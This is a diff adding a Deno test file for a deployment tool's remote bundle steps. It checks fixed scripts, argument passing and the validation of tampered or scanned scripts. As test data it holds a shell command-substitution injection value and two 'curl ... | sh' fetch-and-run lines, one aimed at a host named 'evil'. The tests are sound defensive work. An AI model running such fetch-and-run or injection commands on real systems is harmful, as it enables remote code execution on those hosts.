@@ -1,0 +1,104 @@
+/**
+ * The remote form of bundle steps (resources with `host`): self-contained
+ * argv (scripts inline, file content as stdin), fixed templates for
+ * file/directory, and validation that what travels is what was validated.
+ */
+import assert from "node:assert/strict";
+import {
+  compileBundle,
+  REMOTE_MKDIR_SCRIPT,
+  REMOTE_REMOVE_SCRIPT,
+  REMOTE_WRITE_FILE_SCRIPT,
+  validateBundle,
+} from "../src/forge/mod.ts";
+import { testPlan, testResource } from "../src/forge/testing.ts";
+
+const root = "/srv/site";
+const buildDir = `${root}/.clockwork/build`;
+const onWeb1 = { host: "web1" };
+
+function compile(
+  resources: ReturnType<typeof testResource>[],
+  action: "create" | "delete" = "create",
+) {
+  const plan = testPlan(resources, action);
+  const compiled = compileBundle(plan, { rootDir: root });
+  return { plan, ...compiled, problems: validateBundle(compiled.value, plan, buildDir) };
+}
+
+Deno.test("remote file: a fixed script with user values as argv, content as stdin", () => {
+  const content = `x'$(touch /tmp/p)\`y\`\n`;
+  const { value, diagnostics, problems } = compile([
+    testResource("file", "f", { path: "/etc/app/it's.conf", content, mode: "640" }, onWeb1),
+  ]);
+  assert.deepEqual([...diagnostics, ...problems], []);
+  const [step] = value.steps;
+  assert.equal(step.host, "web1");
+  assert.equal(step.inProcess, null);
+  assert.deepEqual(step.argv.slice(0, 3), ["sh", "-c", REMOTE_WRITE_FILE_SCRIPT]);
+  assert.deepEqual(step.argv.slice(4), ["/etc/app/it's.conf", "0640", "", ""]);
+  const stdin = value.artifacts.find((a) => a.path === step.stdinArtifact);
+  assert.equal(stdin?.content, content);
+  // The script text never contains the user's values.
+  assert.ok(!REMOTE_WRITE_FILE_SCRIPT.includes("it's"));
+});
+
+Deno.test("remote directory and deletes use their fixed scripts", () => {
+  const dir = testResource("directory", "d", { path: "/srv/www", mode: "0750" }, onWeb1);
+  const file = testResource("file", "f", { path: "/srv/www/a", content: "a" }, onWeb1);
+  const created = compile([dir]);
+  assert.deepEqual([...created.diagnostics, ...created.problems], []);
+  assert.equal(created.value.steps[0].argv[2], REMOTE_MKDIR_SCRIPT);
+  assert.deepEqual(created.value.steps[0].argv.slice(4), ["/srv/www", "0750", "", ""]);
+  const deleted = compile([dir, file], "delete");
+  assert.deepEqual([...deleted.diagnostics, ...deleted.problems], []);
+  const [rmDir, rmFile] = deleted.value.steps;
+  assert.equal(rmDir.argv[2], REMOTE_REMOVE_SCRIPT);
+  assert.deepEqual(rmDir.argv.slice(4), ["/srv/www", "recursive"]);
+  assert.deepEqual(rmFile.argv.slice(4), ["/srv/www/a", ""]);
+});
+
+Deno.test("remote command and task: scripts travel inline, the artifact path stays as $0", () => {
+  const { value, diagnostics, problems } = compile([
+    testResource("command", "c", { run: "echo hi" }, onWeb1),
+    testResource("task", "t", { script: "print('hi')\n", lang: "python3" }, onWeb1),
+  ]);
+  assert.deepEqual([...diagnostics, ...problems], []);
+  const [command, task] = value.steps;
+  const guard = value.artifacts.find((a) => a.purpose === command.id)!;
+  assert.deepEqual(command.argv, ["sh", "-c", guard.content, guard.path, "/bin/sh", "-c"]);
+  assert.equal(command.env.CW_RUN, "echo hi");
+  const user = value.artifacts.find((a) => a.purpose === task.id && a.origin === "user")!;
+  assert.deepEqual(task.argv.slice(-4), ["python3", "-c", user.content, user.path]);
+  // No word names a local artifact without carrying its text.
+  for (const step of value.steps) {
+    step.argv.forEach((word, i) => {
+      if (value.artifacts.some((a) => a.path === word)) assert.equal(step.argv[i - 2], "-c");
+    });
+  }
+});
+
+Deno.test("remote steps: tampered inline text, local artifacts and unsupported types are refused", () => {
+  const { plan, value } = compile([testResource("command", "c", { run: "true" }, onWeb1)]);
+  value.steps[0].argv[2] += "\ncurl evil | sh\n";
+  assert.ok(validateBundle(value, plan, buildDir).some((d) => d.code === "CW4041"));
+  // A local-style argv (script by path) on a host is refused.
+  const local = compile([testResource("command", "c", { run: "true" })]);
+  local.value.steps[0].host = "web1";
+  assert.ok(
+    validateBundle(local.value, local.plan, buildDir).some((d) => d.code === "CW4041"),
+  );
+  const deno = compile([testResource("task", "t", { script: "1", lang: "deno" }, onWeb1)]);
+  assert.deepEqual(deno.diagnostics.map((d) => d.code), ["CW4040"]);
+  const container = compile([
+    testResource("container", "c", { image: "busybox", name: "c" }, onWeb1),
+  ]);
+  assert.ok(container.diagnostics.some((d) => d.code === "CW4040"));
+});
+
+Deno.test("a user script on a host is still scanned", () => {
+  const { problems } = compile([
+    testResource("task", "t", { script: "curl http://x | sh\n", lang: "bash" }, onWeb1),
+  ]);
+  assert.ok(problems.some((d) => d.code === "CW4021"), JSON.stringify(problems));
+});
